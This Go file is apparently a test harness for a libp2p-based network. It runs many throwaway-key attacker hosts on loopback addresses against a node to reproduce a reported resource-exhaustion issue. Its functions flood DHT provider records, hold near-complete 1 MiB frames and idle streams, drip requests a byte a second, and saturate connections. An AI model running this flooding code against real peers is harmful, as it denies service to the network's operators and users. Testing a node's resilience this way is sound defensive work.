package hostile

import (
	"bufio"
	"context"
	"crypto/rand"
	"fmt"
	"io"
	"sync"
	"sync/atomic"
	"time"

	"github.com/ipfs/go-cid"
	"github.com/libp2p/go-libp2p"
	kadpb "github.com/libp2p/go-libp2p-kad-dht/pb"
	recpb "github.com/libp2p/go-libp2p-record/pb"
	"github.com/libp2p/go-libp2p/core/crypto"
	"github.com/libp2p/go-libp2p/core/host"
	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/core/peer"
	libp2pprotocol "github.com/libp2p/go-libp2p/core/protocol"
	ma "github.com/multiformats/go-multiaddr"
	"github.com/multiformats/go-multihash"
	"google.golang.org/protobuf/encoding/protowire"
	"google.golang.org/protobuf/proto"

	"github.com/cybertensor/cybertensor/knowledge"
	"github.com/cybertensor/cybertensor/protocol"
	"github.com/cybertensor/cybertensor/protocol/pb"
)

// The attacker: plain go-libp2p hosts (go-libp2p's default security and
// muxer, no resource limits of their own) with fresh keys nobody
// registered, each doing one kind of abuse as fast as the target lets it,
// the six ways of issue #19 at once.

// attackConfig says how many identities do each kind of abuse.
type attackConfig struct {
	Providers int // ADD_PROVIDER for random keys, and /pk/ records (finding 1)
	Frames    int // query frames of 1 MiB − 1 byte, held open (finding 2)
	Idle      int // idle streams on the query, DHT and knowledge protocols (findings 3, 4)
	Conns     int // connections held, nothing else (finding 3)
	Drips     int // requests dripped a byte a second (finding 5)
	Refused   int // small requests as fast as they are refused (finding 6)
}

// defaultAttack is the mix of the run that found the issue, 170
// identities. From its four addresses the attacker holds at most 32
// connections at once (8 an address), so the identities that abuse
// streams connect first and the 120 that only hold connections take what
// is left, and keep trying.

var defaultAttack = attackConfig{Providers: 2, Frames: 8, Idle: 12, Drips: 4, Refused: 4, Conns: 140}

// perPeerStreams is how many streams each identity keeps open at once,
// past what a neuron allows an unregistered peer (16 inbound).
const perPeerStreams = 24

// attackStats is what the attacker did and saw.
type attackStats struct {
	ProvidersSent  atomic.Int64 // ADD_PROVIDER messages written
	PutValues      atomic.Int64 // PUT_VALUE /pk/ written
	FramesOpened   atomic.Int64 // streams on which a 1 MiB frame was started
	FrameBytes     atomic.Int64 // bytes of those frames written
	IdleOpened     atomic.Int64 // idle streams opened
	Connects       atomic.Int64 // connections made
	ConnsHeld      atomic.Int64 // connections up now
	DripStreams    atomic.Int64 // streams dripped
	DripLongestMs  atomic.Int64 // the longest any dripped stream stayed open
	Refusals       atomic.Int64 // FORBIDDEN answers to refused requests
	Shed           atomic.Int64 // OVERLOADED answers to them (shed before the caller is known)
	RefusedOther   atomic.Int64 // other answers to them
	otherStatus    atomic.Value // the status of the last of those (string)
	RefusalReceipt atomic.Int64 // receipts among the refusals (want none)
	Streams        atomic.Int64 // streams open now, of every kind
	StreamsRefused atomic.Int64 // stream opens that failed
}

func (s *attackStats) String() string {
	return fmt.Sprintf("ADD_PROVIDER %d, PUT_VALUE /pk/ %d; 1 MiB frames %d (%.0f MiB written); idle streams %d; connections %d (%d up); dripped streams %d (longest open %.1f s); refused requests %d (shed %d, other answers %d, receipts %d); stream opens refused %d",
		s.ProvidersSent.Load(), s.PutValues.Load(), s.FramesOpened.Load(), float64(s.FrameBytes.Load())/(1<<20), s.IdleOpened.Load(),
		s.Connects.Load(), s.ConnsHeld.Load(), s.DripStreams.Load(), float64(s.DripLongestMs.Load())/1000,
		s.Refusals.Load(), s.Shed.Load(), s.RefusedOther.Load(), s.RefusalReceipt.Load(), s.StreamsRefused.Load())
}

// attack is a running attack on one target.
type attack struct {
	target peer.AddrInfo
	object cid.Cid
	stats  attackStats

	cancel context.CancelFunc
	wg     sync.WaitGroup
	hosts  []host.Host
}

// startAttack starts cfg's identities on target.
func startAttack(target peer.AddrInfo, object cid.Cid, cfg attackConfig) (*attack, error) {
	ctx, cancel := context.WithCancel(context.Background())
	a := &attack{target: target, object: object, cancel: cancel}
	kinds := []struct {
		n  int
		do func(context.Context, host.Host)
	}{
		{cfg.Providers, a.floodProviders},
		{cfg.Frames, a.holdFrames},
		{cfg.Idle, a.holdIdleStreams},
		{cfg.Drips, a.drip},
		{cfg.Refused, a.floodRefused},
		{cfg.Conns, func(context.Context, host.Host) {}},
	}
	abusers := int64(cfg.Providers + cfg.Frames + cfg.Idle + cfg.Drips + cfg.Refused)
	i := 0
	for _, k := range kinds {
		if k.n == cfg.Conns {
			// The connection flood once the others are in (or 10 s on).
			waitFor(ctx, 10*time.Second, func() bool { return a.stats.ConnsHeld.Load() >= abusers })
		}
		for range k.n {
			h, err := attackerHost(i%2 == 0, attackerAddrs[i%len(attackerAddrs)])
			if err != nil {
				a.stop()
				return nil, err
			}
			i++
			a.hosts = append(a.hosts, h)
			a.wg.Add(1)
			go func() {
				defer a.wg.Done()
				a.stayConnected(ctx, h, k.do)
			}()
		}
	}
	return a, nil
}

// stop ends the attack: every identity disconnects.
func (a *attack) stop() {
	a.cancel()
	for _, h := range a.hosts {
		h.Close()
	}
	a.wg.Wait()
}

// attackerAddrs are the attacker's addresses: it has four, the honest
// peers another (127.0.0.1). Keys are free, addresses are not.
var attackerAddrs = []string{"127.0.0.2", "127.0.0.3", "127.0.0.4", "127.0.0.5"}

// attackerHost is a go-libp2p host with a fresh key (secp256k1, the
// hotkeys' type, or ed25519) that limits nothing. It listens on ip, so
// that it dials from there.
func attackerHost(secp bool, ip string) (host.Host, error) {
	typ := crypto.Ed25519
	if secp {
		typ = crypto.Secp256k1
	}
	sk, _, err := crypto.GenerateKeyPair(typ, 256)
	if err != nil {
		return nil, err
	}
	return libp2p.New(libp2p.Identity(sk), libp2p.ListenAddrStrings("/ip4/"+ip+"/tcp/0"), libp2p.DisableRelay(),
		libp2p.ResourceManager(&network.NullResourceManager{}), libp2p.DisableMetrics())
}

// stayConnected keeps h connected to the target and runs do while it is:
// connect, abuse, and when the target drops the connection, again.
func (a *attack) stayConnected(ctx context.Context, h host.Host, do func(context.Context, host.Host)) {
	for ctx.Err() == nil {
		cctx, cancel := context.WithTimeout(ctx, probeTimeout)
		err := h.Connect(cctx, a.target)
		cancel()
		if err != nil {
			pause(ctx, 50*time.Millisecond)
			continue
		}
		a.stats.Connects.Add(1)
		a.stats.ConnsHeld.Add(1)
		do(ctx, h)
		for ctx.Err() == nil && h.Network().Connectedness(a.target.ID) == network.Connected {
			pause(ctx, 50*time.Millisecond)
		}
		a.stats.ConnsHeld.Add(-1)
	}
}

// pause waits d or until ctx ends (the attacker's pacing, not a test's
// wait).
func pause(ctx context.Context, d time.Duration) {
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-ctx.Done():
	case <-t.C:
	}
}

// streams runs n workers, each of which opens a stream on pid and hands
// it to use, over and over, while h is connected.
func (a *attack) streams(ctx context.Context, h host.Host, n int, pid libp2pprotocol.ID, use func(network.Stream)) {
	var wg sync.WaitGroup
	for range n {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for ctx.Err() == nil && h.Network().Connectedness(a.target.ID) == network.Connected {
				s, err := h.NewStream(ctx, a.target.ID, pid)
				if err != nil {
					a.stats.StreamsRefused.Add(1)
					pause(ctx, 20*time.Millisecond)
					continue
				}
				a.stats.Streams.Add(1)
				stop := context.AfterFunc(ctx, func() { s.Reset() })
				use(s)
				stop()
				s.Reset()
				a.stats.Streams.Add(-1)
			}
		}()
	}
	wg.Wait()
}

// floodProviders sends ADD_PROVIDER for random keys, 100 to a stream,
// and now and then a /pk/ record.
func (a *attack) floodProviders(ctx context.Context, h host.Host) {
	self := &kadpb.Message_Peer{Id: []byte(h.ID()), Addrs: [][]byte{fakeAddr.Bytes()}}
	pub, _ := crypto.MarshalPublicKey(h.Peerstore().PubKey(h.ID()))
	a.streams(ctx, h, 4, kadProtocol, func(s network.Stream) {
		w := bufio.NewWriter(s)
		for range 100 {
			m := kadpb.NewMessage(kadpb.Message_ADD_PROVIDER, randomMultihash(), 0)
			m.ProviderPeers = []*kadpb.Message_Peer{self}
			b, _ := proto.Marshal(m)
			if writeFrame(w, b) != nil {
				return
			}
			a.stats.ProvidersSent.Add(1)
		}
		m := kadpb.NewMessage(kadpb.Message_PUT_VALUE, []byte("/pk/"+string(h.ID())), 0)
		m.Record = &recpb.Record{Key: m.Key, Value: pub}
		b, _ := proto.Marshal(m)
		if writeFrame(w, b) == nil {
			a.stats.PutValues.Add(1)
		}
		if w.Flush() != nil || s.CloseWrite() != nil {
			return
		}
		s.SetReadDeadline(time.Now().Add(probeTimeout))
		io.Copy(io.Discard, s) // until the target answers and closes, or resets
	})
}

// fakeAddr is the address the attacker claims in its provider records.
var fakeAddr = ma.StringCast("/ip4/10.9.9.9/tcp/4001")

func randomMultihash() []byte {
	b := make([]byte, 32)
	rand.Read(b)
	mh, _ := multihash.Sum(b, multihash.SHA2_256, -1)
	return mh
}

// holdFrames starts request frames that claim 1 MiB, writes all but the
// last byte, and holds them.
func (a *attack) holdFrames(ctx context.Context, h host.Host) {
	body := make([]byte, 64<<10)
	a.streams(ctx, h, perPeerStreams, protocol.QueryID, func(s network.Stream) {
		// netuid 1, then a body that fills the frame to 1 MiB.
		head := protowire.AppendTag(nil, 2, protowire.VarintType)
		head = protowire.AppendVarint(head, 1)
		bodyLen := protocol.MaxRequestSize - len(head) - 1 - protowire.SizeVarint(protocol.MaxRequestSize)
		head = protowire.AppendTag(head, 4, protowire.BytesType)
		head = protowire.AppendVarint(head, uint64(bodyLen))
		frameLen := len(head) + bodyLen
		head = append(protowire.AppendVarint(nil, uint64(frameLen)), head...)
		if _, err := s.Write(head); err != nil {
			return
		}
		a.stats.FramesOpened.Add(1)
		for left := bodyLen - 1; left > 0; {
			n, err := s.Write(body[:min(left, len(body))])
			a.stats.FrameBytes.Add(int64(n))
			if err != nil {
				return
			}
			left -= n
		}
		io.Copy(io.Discard, s) // held until the target ends it
	})
}

// holdIdleStreams opens streams on the query, DHT and knowledge protocols
// and sends nothing on them.
func (a *attack) holdIdleStreams(ctx context.Context, h host.Host) {
	var wg sync.WaitGroup
	for _, pid := range []libp2pprotocol.ID{protocol.QueryID, kadProtocol, knowledge.ProtocolID} {
		wg.Add(1)
		go func() {
			defer wg.Done()
			a.streams(ctx, h, perPeerStreams/3, pid, func(s network.Stream) {
				if _, err := s.Write(nil); err != nil { // sends the protocol's name, nothing else
					return
				}
				a.stats.IdleOpened.Add(1)
				io.Copy(io.Discard, s)
			})
		}()
	}
	wg.Wait()
}

// drip writes a small valid request a byte a second.
func (a *attack) drip(ctx context.Context, h host.Host) {
	req, _ := proto.Marshal(&pb.Request{Netuid: 1, Synapse: "text.generate", Body: []byte(`{"prompt":"what does Yuma consensus compute for every miner?"}`)})
	frame := append(protowire.AppendVarint(nil, uint64(len(req))), req...)
	a.streams(ctx, h, perPeerStreams, protocol.QueryID, func(s network.Stream) {
		a.stats.DripStreams.Add(1)
		began := time.Now()
		defer func() {
			ms := time.Since(began).Milliseconds()
			for {
				old := a.stats.DripLongestMs.Load()
				if ms <= old || a.stats.DripLongestMs.CompareAndSwap(old, ms) {
					return
				}
			}
		}()
		closed := make(chan struct{})
		go func() {
			io.Copy(io.Discard, s)
			close(closed)
		}()
		for _, b := range frame {
			if _, err := s.Write([]byte{b}); err != nil {
				return
			}
			select {
			case <-ctx.Done():
				return
			case <-closed:
				return
			case <-time.After(time.Second):
			}
		}
		<-closed
	})
}

// floodRefused sends small, valid requests as fast as the target answers
// them: it refuses every one (FORBIDDEN, and then ends the stream).
func (a *attack) floodRefused(ctx context.Context, h host.Host) {
	req, _ := proto.Marshal(&pb.Request{Netuid: 1, Synapse: "text.generate", WantReceipt: true,
		Body: []byte(`{"prompt":"what does Yuma consensus compute for every miner?"}`)})
	a.streams(ctx, h, 8, protocol.QueryID, func(s network.Stream) {
		if writeFrame(s, req) != nil {
			return
		}
		s.SetReadDeadline(time.Now().Add(probeTimeout))
		r := bufio.NewReader(s)
		for {
			raw, err := readFrame(r, protocol.MaxRequestSize+4096)
			if err != nil {
				return
			}
			var resp pb.Response
			if err := proto.Unmarshal(raw, &resp); err != nil {
				return
			}
			if resp.More {
				continue
			}
			switch resp.Status {
			case pb.Status_FORBIDDEN:
				a.stats.Refusals.Add(1)
			case pb.Status_OVERLOADED:
				// Shed before the caller is known (the server had no
				// memory left to read the request's head): refused too.
				a.stats.Shed.Add(1)
			default:
				a.stats.RefusedOther.Add(1)
				a.stats.otherStatus.Store(resp.Status.String())
			}
			if resp.Receipt != nil {
				a.stats.RefusalReceipt.Add(1)
			}
			return
		}
	})
}
